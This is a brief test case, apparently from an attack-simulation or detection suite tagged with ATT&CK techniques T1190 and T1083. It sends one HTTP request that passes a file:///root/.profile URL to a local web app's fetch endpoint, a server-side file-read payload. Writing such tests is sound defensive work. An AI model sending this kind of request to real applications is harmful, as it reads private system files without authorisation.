# title: a web application is given the address of a file
# attack: T1190 T1083
# workload: webapp
# through: http
# shows: file read /root/.profile by python3
GET http://127.0.0.1:8000/fetch?url=file:///root/.profile
